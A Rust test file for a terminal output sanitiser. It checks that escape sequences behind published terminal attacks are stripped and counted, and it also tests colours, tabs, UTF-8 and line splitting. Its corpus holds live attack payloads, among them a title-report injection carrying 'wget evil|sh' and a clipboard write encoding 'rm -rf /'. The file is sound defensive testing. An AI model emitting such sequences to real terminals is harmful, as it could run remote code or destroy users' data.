//! Rows of class T: what hosts may print to take over a terminal, and that none of it gets through.

use proptest::prelude::*;

use super::*;
use crate::terminal::line::{Colour, is_hidden};

/// Sequences behind published attacks on terminals, with what may be seen of them and how much is counted.
const CORPUS: &[(&str, &[u8], &str, u32)] = &[
    ("title report (CVE-2003-0063)", b"a\x1b]2;;wget evil|sh;\x07\x1b[21tb", "ab", 2),
    ("DECRQSS (CVE-2008-2383)", b"a\x1bP$q\nid\n\x1b\\b", "a", 1),
    ("DECRQSS on one line (CVE-2022-45872)", b"a\x1bP$qm\x1b\\b", "ab", 1),
    ("rxvt graphics query (CVE-2021-33477)", b"a\x1bGQb", "aQb", 1),
    ("font query, OSC 50 (CVE-2022-45063)", b"a\x1b]50;?\x07b", "ab", 1),
    ("clipboard, OSC 52", b"a\x1b]52;c;cm0gLXJmIC8=\x1b\\b", "ab", 1),
    ("link that lies, OSC 8", b"\x1b]8;;http://evil\x1b\\good\x1b]8;;\x1b\\", "good", 2),
    ("colour query, OSC 4 and 11", b"\x1b]4;1;?\x1b\\\x1b]11;?\x07x", "x", 2),
    ("answerback", b"a\x05b", "ab", 1),
    ("device attributes, status and size reports", b"\x1b[c\x1b[>c\x1b[6n\x1b[18t\x1b[?1$px", "x", 5),
    ("sixel", b"a\x1bPq#0;2;0;0;0~-\x1b\\b", "ab", 1),
    ("kitty graphics", b"a\x1b_Gf=24,s=1,v=1;AAAA\x1b\\b", "ab", 1),
    ("tmux control mode (CVE-2023-46300)", b"a\x1bP1000p%begin\x1b\\b", "ab", 1),
    ("privacy message and start of string", b"a\x1b^x\x1b\\b\x1bXy\x1b\\c", "abc", 2),
    ("a string nobody ends", b"a\x1b]0;never ended", "a", 1),
    ("a cancelled string", b"a\x1b]0;x\x18b\x1bPq\x1ac", "abc", 2),
    (
        "cursor, erase, scroll region, save, alternate screen",
        b"\x1b[2J\x1b[1;1H\x1b[5A\x1b[r\x1b7\x1b8\x1b[?1049hx",
        "x",
        7,
    ),
    ("faked paste, mouse and sync modes", b"\x1b[200~id\x1b[201~\x1b[?1000h\x1b[?2026hx", "idx", 4),
    ("character sets and reset", b"\x1b(0\x0eq\x0f\x1bcx", "qx", 4),
    ("bell, NUL, form feed, vertical tab, DEL", b"a\x07\x00\x0c\x0b\x7fb", "ab", 5),
    ("C1 as raw bytes", b"a\x9b31mb\x9d0;t\x9cc\x90d", "a31mb0;tcd", 4),
    ("C1 in UTF-8", "a\u{9b}31mb\u{9d}0;t\u{9c}c\u{85}d".as_bytes(), "a31mb0;tcd", 4),
    ("bidi and invisible", "a\u{202e}b\u{200b}c\u{2066}".as_bytes(), "a\\u{202e}b\\u{200b}c\\u{2066}", 0),
    ("conceal and text in its own colour", b"\x1b[8mpw\x1b[0;30;40mno", "pwno", 0),
    (
        "overlong and surrogate UTF-8",
        b"a\xc0\xafb\xed\xa0\x80c\xf8d",
        "a\u{fffd}\u{fffd}b\u{fffd}\u{fffd}c\u{fffd}d",
        1,
    ),
];

fn texts(lines: &[OutputLine]) -> Vec<String> {
    lines.iter().map(|line| line.text.text().to_string()).collect()
}

fn one(bytes: &[u8]) -> OutputLine {
    let lines = lines(bytes);
    assert_eq!(lines.len(), 1, "{lines:?}");
    lines.into_iter().next().unwrap_or_default()
}

fn shown(bytes: &[u8]) -> String {
    one(bytes).text.text().to_string()
}

/// The lines when the bytes come in the pieces between these cuts.
fn in_pieces(bytes: &[u8], cuts: &[usize]) -> Vec<OutputLine> {
    let mut filter = Filter::new();
    let mut out = Vec::new();
    let mut from = 0;
    for &cut in cuts.iter().chain([&bytes.len()]) {
        filter.push(&bytes[from..cut], &mut out);
        from = cut;
    }
    out.extend(filter.finish());
    out
}

fn assert_clean(lines: &[OutputLine]) {
    for line in lines {
        let text = line.marked().text();
        assert!(!text.as_str().chars().any(is_hidden), "{text:?}");
    }
}

#[test]
fn t_cve_sequences_are_dropped_and_counted() {
    for (name, bytes, seen, dropped) in CORPUS {
        let lines = lines(bytes);
        assert_clean(&lines);
        assert_eq!(lines[0].text.text().as_str(), *seen, "{name}");
        assert_eq!(lines[0].dropped, *dropped, "{name}");
    }
}

#[test]
fn t_any_split_of_the_corpus_gives_the_same_cells() {
    let whole: Vec<u8> = CORPUS.iter().flat_map(|(_, bytes, ..)| [*bytes, "é漢😀\r\n".as_bytes()].concat()).collect();
    let expected = lines(&whole);
    for cut in 0..=whole.len() {
        assert_eq!(in_pieces(&whole, &[cut]), expected, "cut at {cut}");
    }
    let every: Vec<usize> = (0..whole.len()).collect();
    assert_eq!(in_pieces(&whole, &every), expected, "one byte at a time");
}

#[test]
fn t_every_two_bytes_after_escape() {
    let mut kept = Vec::new();
    for a in 0..=255u8 {
        for b in 0..=255u8 {
            let bytes = [b"x\x1b".as_slice(), &[a, b], b"y\nz"].concat();
            let all = lines(&bytes);
            assert_clean(&all);
            assert_eq!(all[all.len() - 1].text.text().as_str(), "z", "{a:02x} {b:02x}: the next line is untouched");
            if all.iter().all(|line| line.dropped == 0) {
                kept.push((a, b));
            }
        }
    }
    assert_eq!(kept, [(b'[', b'm')], "the empty SGR alone is obeyed");
}

#[test]
fn t_c1_bytes_are_dropped() {
    for c1 in 0x80..=0x9fu8 {
        let raw = one(&[b'a', c1, b'b']);
        let utf8 = one(format!("a{}b", char::from(c1)).as_bytes());
        assert_eq!((raw.text.text().as_str(), raw.dropped), ("ab", 1), "{c1:02x}");
        assert_eq!(utf8, raw, "{c1:02x}");
    }
}

#[test]
fn t_torn_utf8_at_every_split() {
    let text = "aé漢😀e\u{301}b\u{85}c".as_bytes();
    let broken = [text, &[0xf0, 0x9f, 0x98], b"\xc3A\xff\xe6\xbc\x1b[1mB\xf0\x9f\n\xe2\x82"].concat();
    let expected = lines(&broken);
    assert_eq!(texts(&expected), ["aé漢😀e\u{301}bc\u{fffd}\u{fffd}A\u{fffd}\u{fffd}B\u{fffd}", "\u{fffd}"]);
    for first in 0..broken.len() {
        for second in first..broken.len() {
            assert_eq!(in_pieces(&broken, &[first, second]), expected, "cut at {first} and {second}");
        }
    }
}

#[test]
fn t_combining_marks_are_bounded() {
    let flood = format!("e{}\n", "\u{301}".repeat(4096));
    let line = &lines(flood.as_bytes())[0];
    assert_eq!(line.text.text().as_str().matches('\u{301}').count(), 8);
    assert_eq!(line.dropped, 4088);
    let spread = "e\u{301}".repeat(5000);
    let line = one(spread.as_bytes());
    assert_eq!(line.text.text().as_str().matches('\u{301}').count(), OUTPUT_LINE_MARKS_MAX);
    assert_eq!(line.dropped, 5000 - 4096);
    assert_eq!(shown("\u{301}x".as_bytes()), "\\u{301}x");
}

#[test]
fn t_long_lines_are_split_and_say_so() {
    let long = "x".repeat(3 * OUTPUT_LINE_BYTES_MAX + 10);
    let all = lines(format!("{long}\nnext\n").as_bytes());
    let ends: Vec<_> = all.iter().map(|line| (line.text.width(), line.end)).collect();
    let full = (OUTPUT_LINE_BYTES_MAX, LineEnd::Split);
    assert_eq!(ends, [full, full, full, (10, LineEnd::Feed), (4, LineEnd::Feed)]);
    assert!(all[0].marked().text().as_str().ends_with("x↩"));
    for flood in ["漢", "\u{200b}", "e\u{301}", "\t", "\x1b[31mxy"] {
        let all = lines(flood.repeat(OUTPUT_LINE_BYTES_MAX).as_bytes());
        assert!(
            all.len() > 1 && all.iter().all(|line| line.text.text().as_str().len() <= OUTPUT_LINE_BYTES_MAX),
            "{flood:?}"
        );
    }
}

#[test]
fn t_an_endless_string_takes_no_memory() {
    let mut filter = Filter::new();
    let mut out = Vec::new();
    filter.push(b"a\x1b]52;c;", &mut out);
    for _ in 0..64 {
        filter.push(&[b'A'; 64 * 1024], &mut out);
    }
    filter.push(b"\nb\n", &mut out);
    assert_eq!(texts(&out), ["a", "b"]);
    assert_eq!(out[0].dropped, 1);
}

#[test]
fn t_dropped_things_mark_their_line() {
    let all = lines(b"clean\n\x1b[2Kdirty\x07\n");
    assert_eq!(all[0].marked().text().as_str(), "clean");
    assert_eq!(all[1].marked().text().as_str(), "dirty ␛×2");
}

#[test]
fn progress_bars_collapse() {
    assert_eq!(shown(b" 10%\r 50%\r100%\n"), "100%");
    assert_eq!(shown(b"| working\r/\n"), "/ working", "what was not printed over stays, as on a terminal");
    assert_eq!(shown(b"a-\x08\\\x08|\n"), "a|");
    assert_eq!(shown(b"\x08\x08ab\n"), "ab");
    assert_eq!(shown("漢字\rx\n".as_bytes()), "x 字");
    assert_eq!(shown("漢字\x08x\n".as_bytes()), "漢 x");
    assert_eq!(shown("ab漢\r漢\n".as_bytes()), "漢漢");
    assert_eq!(shown("a漢字\r漢\n".as_bytes()), "漢 字");
    assert_eq!(shown("e\u{301}x\rf\n".as_bytes()), "fx", "the mark goes with its character");
}

#[test]
fn tabs_go_to_columns() {
    assert_eq!(shown(b"a\tb\n"), "a       b");
    assert_eq!(shown(b"12345678\tb\n"), "12345678        b");
    assert_eq!(shown(b"abcdefghij\r\tX\n"), "abcdefghXj", "a tab moves over what stands there");
    assert_eq!(shown("漢\tb\n".as_bytes()), "漢      b");
}

#[test]
fn colours_are_kept_and_end_with_the_line() {
    let all = lines(b"\x1b[1;31mred\x1b[0m \x1b[38;5;208mx\x1b[48;2;1;2;3my\x1b[38:2::9:8:7mz\nplain\n");
    let runs: Vec<_> = all[0].text.runs().iter().map(|run| (run.text.as_str(), run.style.fg, run.style.bg)).collect();
    let (none, back) = (Colour::Default, Colour::Rgb(1, 2, 3));
    assert_eq!(
        runs,
        [
            ("red", Colour::Ansi(1), none),
            (" ", none, none),
            ("x", Colour::Indexed(208), none),
            ("y", Colour::Indexed(208), back),
            ("z", Colour::Rgb(9, 8, 7), back)
        ]
    );
    assert!(all[0].text.runs()[0].style.attrs.has(Attrs::BOLD));
    assert_eq!(all[1].text.runs()[0].style, StyleBits::PLAIN);
    assert_eq!(all[0].dropped, 0);
}

#[test]
fn malformed_colours_change_nothing_else() {
    for sgr in ["38", "38;5", "38;2;1;2", "38;9", "48;5;999", "38:7:1", "999", ";;", "58;5;1"] {
        let line = one(format!("\x1b[{sgr}mx").as_bytes());
        assert_eq!((line.text.runs()[0].style, line.dropped), (StyleBits::PLAIN, 0), "{sgr}");
    }
    assert_eq!(one(format!("\x1b[{}mx", "1;".repeat(40)).as_bytes()).dropped, 1, "more parameters than anyone needs");
}

#[test]
fn the_unfinished_line_can_be_seen() {
    let mut filter = Filter::new();
    let mut out = Vec::new();
    assert_eq!(filter.open(), None);
    filter.push(b"done\n 42%", &mut out);
    assert_eq!(texts(&out), ["done"]);
    let open = filter.open().unwrap_or_default();
    assert_eq!((open.text.text().as_str(), open.end), (" 42%", LineEnd::Open));
    assert_eq!(filter.finish(), [open]);
}

#[test]
fn empty_lines_are_lines_and_the_end_is_none() {
    assert_eq!(texts(&lines(b"a\n\r\n\nb\n")), ["a", "", "", "b"]);
    assert!(lines(b"").is_empty());
}

#[test]
fn t_the_raw_view_shows_escapes_as_text() {
    let lines = raw_lines(b"a\x1b[31mb\x9b\t^[\r\n\n\xe2\x82\xac\n");
    assert_eq!(lines.len(), 3);
    assert_eq!(lines[0].text().as_str(), "a^[[31mb\\x9b^I^[^M");
    let spelled: Vec<_> =
        lines[0].runs().iter().filter(|run| run.style.attrs.has(Attrs::REVERSE)).map(|run| run.text.as_str()).collect();
    assert_eq!(spelled, ["^[", "\\x9b^I", "^M"], "what the host printed as ^[ is not marked");
    assert_eq!(lines[2].text().as_str(), "€");
}

/// Bytes a hostile host would choose.
fn hostile() -> impl Strategy<Value = Vec<u8>> {
    let piece = prop_oneof![
        3 => prop::collection::vec(any::<u8>(), 1..6),
        3 => "[ -~]{1,8}".prop_map(String::into_bytes),
        2 => Just(b"\x1b[".to_vec()),
        2 => prop::sample::select(vec!["\x1b", "\x1b]", "\x1bP", "\x1b_", "\x1b\\", "\x07", "\x18", "\n", "\r", "\x08", "\t"]).prop_map(|s| s.as_bytes().to_vec()),
        2 => prop::sample::select(vec!["é", "漢", "😀", "e\u{301}", "\u{301}", "\u{9b}", "\u{202e}", "\u{1112}\u{1161}"]).prop_map(|s| s.as_bytes().to_vec()),
        1 => "[0-9;:]{0,6}m".prop_map(String::into_bytes),
        1 => prop::sample::select(CORPUS.iter().map(|(_, bytes, ..)| bytes.to_vec()).collect::<Vec<_>>()),
    ];
    prop::collection::vec(piece, 0..40).prop_map(|pieces| pieces.concat())
}

proptest! {
    #[test]
    fn t_any_split_gives_the_same_cells(bytes in hostile(), cuts in prop::collection::vec(any::<prop::sample::Index>(), 0..12)) {
        let mut cuts: Vec<usize> = cuts.iter().map(|cut| cut.index(bytes.len() + 1)).collect();
        cuts.sort_unstable();
        let whole = lines(&bytes);
        assert_clean(&whole);
        prop_assert_eq!(in_pieces(&bytes, &cuts), whole);
    }

    #[test]
    fn a_line_depends_on_its_own_bytes(bytes in hostile(), more in hostile()) {
        let mut both = bytes.clone();
        both.push(b'\n');
        both.extend_from_slice(&more);
        let mut apart = lines(&[bytes.as_slice(), b"\n"].concat());
        apart.extend(lines(&more));
        prop_assert_eq!(lines(&both), apart);
    }

    #[test]
    fn t_the_raw_view_is_clean(bytes in hostile()) {
        for line in raw_lines(&bytes) {
            prop_assert!(!line.text().as_str().chars().any(is_hidden));
        }
    }
}
